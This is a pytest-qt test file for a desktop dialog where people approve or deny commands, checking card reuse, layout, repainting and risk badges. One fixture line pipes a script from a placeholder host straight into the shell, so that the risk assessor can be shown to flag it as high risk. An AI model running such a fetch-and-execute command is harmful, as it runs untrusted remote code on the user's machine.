"""Building the card list cheaply: spare widgets reused (never shown stale), the margin later."""

from __future__ import annotations

from dataclasses import replace

import pytest
from PySide6.QtCore import QEvent, QObject, Qt
from PySide6.QtGui import QPalette
from PySide6.QtWidgets import QApplication, QLabel, QPushButton, QWidget
from pytestqt.qtbot import QtBot

from desktop.core.model import Choice, OutcomeKind
from desktop.model.approvals.texts import RISK_BADGES, remaining_text, risk_summary
from desktop.risk import RiskLevel, assess
from desktop.ui.approvals.cards import RowCard
from desktop.ui.approvals.dialog import ApprovalDialog
from desktop.ui.approvals.list_view import OVERSCAN, SPARE_WIDGETS
from tests.model.approvals.factory import FakeClock, approval, resolved
from tests.ui.approvals.factory import catch_up, row_cards, upsert, widget_for

HIGH = "curl https://example.invalid/x.sh | sh"
LOW = "ls -la"


def _fill(dialog: ApprovalDialog, sessions: int = 10, rows: int = 10) -> None:
    for s in range(sessions):
        for i in range(rows):
            command = HIGH if (s + i) % 2 else f"{LOW} {s} {i}"
            upsert(
                dialog,
                "g",
                "G",
                approval(f"s{s}r{i}", session=f"s{s}", position=i, command=command),
                "",
            )


def _show_denied(dialog: ApprovalDialog, qtbot: QtBot, sessions: int, rows: int) -> None:
    """The dialog shown with every row of ``_fill`` denied."""
    dialog.resize(700, 600)
    _fill(dialog, sessions, rows)
    for row in list(dialog.board.rows()):
        upsert(dialog, "g", "G", resolved(row.approval, OutcomeKind.DENIED, Choice.DENY), "")
    dialog.present(activate=False)
    qtbot.waitExposed(dialog)


def _scroll_to(dialog: ApprovalDialog, value: int) -> None:
    dialog.list_view.verticalScrollBar().setValue(value)
    dialog.list_view.flush(overscan=True)


def test_a_reused_card_shows_its_new_row_whole_risk_and_choices_included(
    dialog: ApprovalDialog, qtbot: QtBot
) -> None:
    assert assess(HIGH).level is RiskLevel.HIGH
    assert assess(LOW).level is RiskLevel.LOW
    dialog.resize(700, 600)
    _fill(dialog)
    dialog.present(activate=False)
    qtbot.waitExposed(dialog)
    dialog.list_view.flush(overscan=True)
    first_cards = {id(c) for c in row_cards(dialog.list_view)}
    bar = dialog.list_view.verticalScrollBar()
    for step in range(1, 9):  # page by page to the end: cards leave and come back rebound
        _scroll_to(dialog, bar.maximum() * step // 8)
    cards = row_cards(dialog.list_view)
    assert {id(c) for c in cards} & first_cards  # some were reused, not rebuilt
    for row in dialog.board.rows():
        card = dialog.list_view.card(row)
        if card is None:
            continue
        assert card.entry is row
        entry = row.approval
        assert card.command.toPlainText() == entry.command
        assert card.badge.text() == RISK_BADGES[assess(entry.command).level]
        assert card.risk_summary.text() == risk_summary(assess(entry.command))
        assert card.number.text().startswith(f"Command {entry.position + 1}")
        assert set(card.buttons) == set(entry.choices)
        assert card.buttons[Choice.ONCE].isEnabled()


def test_spares_are_bounded_and_released_when_the_dialog_hides(
    dialog: ApprovalDialog, qtbot: QtBot
) -> None:
    dialog.resize(700, 600)
    _fill(dialog)
    dialog.present(activate=False)
    qtbot.waitExposed(dialog)
    bar = dialog.list_view.verticalScrollBar()
    dialog.list_view.flush(overscan=True)
    for step in range(1, 9):
        _scroll_to(dialog, bar.maximum() * step // 8)
    every_card = dialog.list_view.viewport().findChildren(QWidget, "rowCard")
    built = row_cards(dialog.list_view)
    assert len(built) <= 13
    assert len(built) < len(every_card) <= len(built) + SPARE_WIDGETS  # the rest are spares
    assert all(c.isHidden() for c in every_card if c not in built)
    dialog.hide()
    qtbot.waitUntil(lambda: dialog.list_view.viewport().findChildren(QWidget, "rowCard") == [])


def test_a_card_back_on_screen_is_rendered_again_only_if_its_row_changed_meanwhile(
    dialog: ApprovalDialog, qtbot: QtBot, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Rows rotating over sessions scroll the list back and forth: a card whose row did not
    change while away comes back as it was (rendering it again took about 0.4 ms a card), its
    countdown and selection as they are now."""
    dialog.resize(700, 600)
    for s in range(10):
        for i in range(2):
            a = approval(f"s{s}r{i}", session=f"s{s}", position=i, command=f"{LOW} {s} {i}")
            upsert(dialog, "g", "G", replace(a, expires_at=clock.now + 300), "")
    dialog.present(activate=False)
    qtbot.waitExposed(dialog)
    view = dialog.list_view
    view.flush(overscan=True)
    selected = dialog.selected_row()  # its card stays built wherever the list is
    first = {c.entry.key: c for c in row_cards(view) if c.entry is not selected}
    changed, chosen = list(first)[:2]
    rendered: list[str] = []
    render = RowCard.refresh
    monkeypatch.setattr(
        RowCard, "refresh", lambda card, now: (rendered.append(card.entry.key), render(card, now))
    )
    _scroll_to(dialog, view.verticalScrollBar().maximum())
    assert not {c.entry.key for c in row_cards(view)} & set(first)
    row = dialog.board.row(("g", changed))
    assert row is not None
    upsert(dialog, "g", "G", resolved(row.approval, OutcomeKind.DENIED, Choice.DENY), "")
    clock.advance(61)
    catch_up(dialog)  # the countdowns of the cards built tick
    rendered.clear()
    view.set_selected(dialog.board.row(("g", chosen)))
    _scroll_to(dialog, 0)
    back = {c.entry.key: c for c in row_cards(view)}
    assert set(first) <= set(back)
    assert set(rendered) & set(first) == {changed}  # a new card would be rendered too
    assert back[changed].state.text() == "Denied"
    assert all(back[key] is card for key, card in first.items() if key != changed)
    for key, card in back.items():
        assert card.entry is dialog.board.row(("g", key))
        assert card.command.toPlainText() == card.entry.approval.command
        expires_at = card.entry.approval.expires_at
        assert expires_at is not None
        shown = remaining_text(expires_at, clock.now) if card.entry.is_open else ""
        assert card.countdown.text() == shown
        assert card.property("selected") is (key == chosen)


def test_a_card_back_on_screen_after_the_list_narrowed_is_as_tall_as_its_text_now(
    dialog: ApprovalDialog, qtbot: QtBot
) -> None:
    """A card that comes back unchanged keeps its height, unless the width changed meanwhile."""
    for s in range(10):
        for i in range(2):
            a = approval(f"s{s}r{i}", session=f"s{s}", position=i, description="a listing " * 12)
            upsert(dialog, "g", "G", a, "")
    dialog.resize(1200, 700)
    dialog.present(activate=False)
    qtbot.waitExposed(dialog)
    view = dialog.list_view
    view.flush(overscan=True)
    first = set(row_cards(view))
    _scroll_to(dialog, view.verticalScrollBar().maximum())
    dialog.resize(500, 700)
    _scroll_to(dialog, 0)
    back = [c for c in row_cards(view) if c in first]
    assert back
    for card in back:
        labels = [w for w in card.findChildren(QLabel) if w.isVisible() and w.wordWrap()]
        assert any(label.objectName() == "description" for label in labels)
        for label in labels:
            assert label.height() >= label.heightForWidth(label.width()), label.objectName()


def test_rows_rotating_over_sessions_build_no_new_cards_once_the_spares_are_there(
    dialog: ApprovalDialog, qtbot: QtBot, clock: FakeClock, monkeypatch: pytest.MonkeyPatch
) -> None:
    """New rows land in one session after another, each answered, the margin built between:
    the list goes back and forth over the same cards (building one took ~7 ms)."""
    dialog.resize(860, 700)
    dialog.present(activate=False)
    qtbot.waitExposed(dialog)
    view = dialog.list_view
    built: list[str] = []
    build = RowCard.__init__
    monkeypatch.setattr(
        RowCard, "__init__", lambda card, entry: (built.append(entry.key), build(card, entry))[1]
    )
    for n in range(60):
        if n == 40:
            built.clear()
        a = approval(f"k{n}", session=f"s{n % 4}", batch=f"b{n}", expires_at=clock.now + 300)
        upsert(dialog, "g", "G", a, "")
        view.flush()
        upsert(dialog, "g", "G", resolved(a, OutcomeKind.DENIED, Choice.DENY), "")
        view.flush()
        view.flush(overscan=True)  # the list kept still: its margin
    assert built == []
    spares = view.viewport().findChildren(RowCard, "rowCard")
    assert len(spares) <= len(row_cards(view)) + SPARE_WIDGETS


def test_a_spare_takes_a_waiting_look_for_the_next_row_and_every_card_looks_as_its_row(
    dialog: ApprovalDialog, qtbot: QtBot
) -> None:
    """A denied row's card, once spare, is re-styled after the paint; the next new row gets it."""
    _show_denied(dialog, qtbot, sessions=6, rows=4)
    bar = dialog.list_view.verticalScrollBar()
    for step in range(1, 5):  # denied cards leave the screen and become spares
        _scroll_to(dialog, bar.maximum() * step // 4)
    cards = dialog.list_view.viewport().findChildren(RowCard, "rowCard")
    qtbot.waitUntil(lambda: any(c.isHidden() and not c.property("resolved") for c in cards))
    primed = next(c for c in cards if c.isHidden() and not c.property("resolved"))
    upsert(dialog, "g", "G", approval("new", session="s0", position=9, command=LOW), "")
    dialog.list_view.flush(overscan=True)
    new_row = next(r for r in dialog.board.rows() if r.key == "new")
    assert dialog.list_view.card(new_row) is primed
    built = row_cards(dialog.list_view)
    assert any(c.property("resolved") for c in built)  # denied ones beside it
    for card in built:
        greyed = card.property("resolved")
        assert greyed is (card.entry is not new_row)
        number = card.number.palette().color(QPalette.ColorRole.WindowText)
        assert (number == card.palette().color(QPalette.ColorRole.PlaceholderText)) is greyed
        assert card.state.property("tone") == ("bad" if greyed else "waiting")


def test_a_new_rows_card_is_painted_once_in_the_frame_that_shows_it(
    dialog: ApprovalDialog, qtbot: QtBot
) -> None:
    """Qt posts every widget it shows a repaint for later: the list hands those to the frame it
    lays out, or each new row's card (the list jumped to it) was painted again right after."""
    _show_denied(dialog, qtbot, sessions=4, rows=3)
    _scroll_to(dialog, dialog.list_view.verticalScrollBar().maximum())
    painted: list[QObject] = []
    watch = _PaintWatch(painted)
    app = QApplication.instance()
    assert app is not None
    app.installEventFilter(watch)  # which card shows the row is not known yet
    try:
        upsert(dialog, "g", "G", approval("new", session="s0", batch="b9", command=LOW), "")
        row = dialog.board.row(("g", "new"))
        assert row is not None
        assert dialog.list_view.card(row) is None  # laid out in a later turn, as in the app
        qtbot.waitUntil(lambda: _shown(dialog.list_view.card(row)))  # the list jumped to it
        card = dialog.list_view.card(row)
        assert card is not None
        parts = [card.command.viewport(), *card.buttons.values()]
        qtbot.waitUntil(lambda: set(parts) <= set(painted))
        for _ in range(5):  # whatever the showing posted
            app.processEvents()
    finally:
        app.removeEventFilter(watch)
    assert [painted.count(part) for part in parts] == [1] * len(parts)


def _shown(card: RowCard | None) -> bool:
    return card is not None and card.isVisible()


class _PaintWatch(QObject):
    def __init__(self, painted: list[QObject]) -> None:
        super().__init__()
        self.painted = painted

    def eventFilter(self, watched: QObject, event: QEvent) -> bool:  # noqa: N802 (Qt)
        if event.type() == QEvent.Type.Paint and isinstance(watched, QWidget):
            self.painted.append(watched)
        return False


def test_rows_on_screen_are_built_first_and_the_margin_once_the_list_keeps_still(
    dialog: ApprovalDialog, qtbot: QtBot
) -> None:
    dialog.resize(700, 600)
    _fill(dialog)
    dialog.present(activate=False)
    qtbot.waitExposed(dialog)
    view = dialog.list_view
    view.flush(overscan=True)
    bar = view.verticalScrollBar()
    bar.setValue(bar.maximum() // 2)  # a jump: placed at once
    height = view.viewport().height()

    def below() -> list[int]:  # where the built cards under the viewport's edge start
        return [c.y() for c in row_cards(view) if c.y() >= height]

    assert view.rows_on_screen()
    assert all(view.card(r) is not None for r in view.rows_on_screen())
    # Not yet: the screen comes first. The first card below the edge may have been built while
    # its estimated place (before the rows above it were measured) was still on screen.
    assert len(below()) <= 1
    qtbot.waitUntil(lambda: max(below(), default=0) > height + OVERSCAN // 2)


def test_every_item_is_as_tall_as_its_text_at_its_width_no_more_and_no_less(
    dialog: ApprovalDialog, qtbot: QtBot
) -> None:
    """Headings and cards take the height their text needs at the width they were given.

    A wrapped label's size hint is laid out at a width Qt guesses, not the card's: measured by
    it, a one-line heading took three lines of space. Narrowed, the same texts wrap and grow.
    """
    title = "Tidy the release notes before the quarterly review " * 3
    for i in range(2):
        a = approval(f"r{i}", session="s1", position=i, command=LOW, description="a listing " * 6)
        upsert(dialog, "g", "The build server in the basement rack " * 3, a, title)
    dialog.resize(1600, 700)
    dialog.present(activate=False)
    qtbot.waitExposed(dialog)
    view = dialog.list_view
    heights: dict[int, list[int]] = {}
    checked = 0
    for width in (1600, 300):  # 300: as narrow as the buttons let it be
        dialog.resize(width, 700)
        view.flush(overscan=True)
        nodes = [dialog.board.gateways[0]]
        nodes += [nodes[0].sessions[0], nodes[0].sessions[0].batches[0]]
        nodes += dialog.board.rows()
        for node in nodes:
            widget = widget_for(view, node)
            assert widget is not None
            assert widget.isVisible()
            labels = [w for w in widget.findChildren(QLabel) if w.isVisible() and w.wordWrap()]
            checked += len(labels)
            for label in labels:
                shown = (type(widget).__name__, label.objectName(), width)
                needed = label.heightForWidth(label.width())
                assert label.height() >= needed, shown  # nothing cut off
                if label.objectName() in ("gatewayTitle", "sessionTitle"):
                    assert label.height() == needed, shown  # nor space left empty below
            heights.setdefault(node.uid, []).append(widget.height())
    assert checked >= 2 * 4  # both headings and each card's description, at both widths
    gateway, session = dialog.board.gateways[0], dialog.board.gateways[0].sessions[0]
    assert heights[gateway.uid][1] > heights[gateway.uid][0]  # the long name wrapped
    assert heights[session.uid][1] > heights[session.uid][0]


def test_at_its_narrowest_the_dialog_still_shows_every_button_and_heading_whole(
    dialog: ApprovalDialog, qtbot: QtBot
) -> None:
    """The cards are placed by hand, so the window must learn how wide their buttons need."""
    for i in range(2):
        upsert(dialog, "g", "G", approval(f"r{i}", session="s1", position=i, command=LOW), "")
    dialog.present(activate=False)
    qtbot.waitExposed(dialog)
    dialog.resize(300, 600)  # narrower than anything allows
    dialog.list_view.flush(overscan=True)
    qtbot.waitUntil(lambda: dialog.width() >= dialog.list_view.minimumWidth())
    dialog.list_view.flush(overscan=True)
    rows = list(dialog.board.rows())
    widgets = [widget_for(dialog.list_view, node) for node in [*rows, rows[0].batch]]
    shown = [
        child
        for widget in widgets
        if widget is not None
        for child in widget.findChildren(QWidget)
        if child.isVisible() and (isinstance(child, QPushButton) or not _wraps(child))
    ]
    assert sum(isinstance(child, QPushButton) for child in shown) >= 2 * 4 + 3
    for child in shown:
        assert child.width() >= child.sizeHint().width(), child.objectName()
        assert child.geometry().right() < child.parentWidget().width(), child.objectName()


def _wraps(widget: QWidget) -> bool:
    return not isinstance(widget, QLabel) or widget.wordWrap()


def test_the_gateways_words_on_a_card_can_be_selected_to_copy_and_our_few_words_cannot(
    dialog: ApprovalDialog, qtbot: QtBot, clock: FakeClock
) -> None:
    """A selectable label is laid out and painted through a text document: ~1 ms a new row for
    the number, badge and countdown alone, which hold our own words, nothing to copy."""
    upsert(dialog, "g", "G", approval("a", expires_at=clock.now + 300), "")
    dialog.present(activate=False)
    qtbot.waitExposed(dialog)
    card = row_cards(dialog.list_view)[0]
    selectable = Qt.TextInteractionFlag.TextSelectableByMouse
    for label in (card.description, card.context, card.agent, card.output, card.state):
        assert label.textInteractionFlags() & selectable, label.objectName()
    for label in (card.number, card.badge, card.countdown):
        assert label.text()
        assert not label.textInteractionFlags() & selectable, label.objectName()


def test_a_row_off_screen_that_changed_is_guessed_again_at_its_new_size(
    dialog: ApprovalDialog, qtbot: QtBot
) -> None:
    dialog.resize(700, 600)
    _fill(dialog)
    dialog.present(activate=False)
    qtbot.waitExposed(dialog)
    view = dialog.list_view
    view.flush(overscan=True)
    last = list(dialog.board.rows())[-1]
    assert widget_for(view, last) is None  # far below the screen: only guessed
    before = view.verticalScrollBar().maximum()
    taller = "\n".join(f"echo line {n}" for n in range(8))
    upsert(dialog, "g", "G", replace(last.approval, command=taller), "")
    view.flush(overscan=True)
    assert widget_for(view, last) is None
    assert view.verticalScrollBar().maximum() > before
